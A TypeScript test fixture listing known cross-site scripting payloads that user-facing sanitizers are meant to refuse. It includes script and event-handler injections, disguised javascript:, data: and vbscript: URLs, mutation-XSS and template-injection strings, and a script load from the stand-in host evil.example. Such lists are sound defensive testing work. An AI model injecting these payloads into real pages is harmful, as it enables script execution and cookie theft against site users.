/**
 * Known XSS payloads, for tests anywhere user text reaches a page: rich text, names, labels,
 * CSV imports. Drawn from the usual cheat sheets (OWASP, PortSwigger) and the tricks that
 * got past real sanitizers: case games, control characters and entities inside a
 * `javascript:` scheme, other executable schemes, attribute breakouts, mutation XSS and
 * template injection. None of them is a safe link target, so a test may assume every one
 * used as an href must be refused or neutralised.
 */
export const xssPayloads: readonly string[] = [
  // Markup that runs script when parsed as HTML.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<a href="javascript:alert(1)">click</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div style="width: expression(alert(1))">',
  '<div style="background:url(javascript:alert(1))">',
  // Breaking out of an attribute or a string.
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "';alert(1);//",
  // javascript: URLs, plain and disguised.
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(document.cookie)',
  '\tjavascript:alert(1)',
  '\u0000javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'javascript\t:alert(1)',
  '\u00a0javascript:alert(1)',
  'javascript://%0aalert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
  'javascript&#58;alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'jav&#x09;ascript:alert(1)',
  '%6Aavascript:alert(1)',
  'https:javascript:alert(1)',
  // Other executable schemes.
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'VBScript:MsgBox("XSS")',
  // Off-site links that look like same-site paths.
  '//evil.example/',
  '/\\evil.example/',
  '\\\\evil.example\\share',
  // Template and prototype games.
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '<%= 7*7 %>',
]
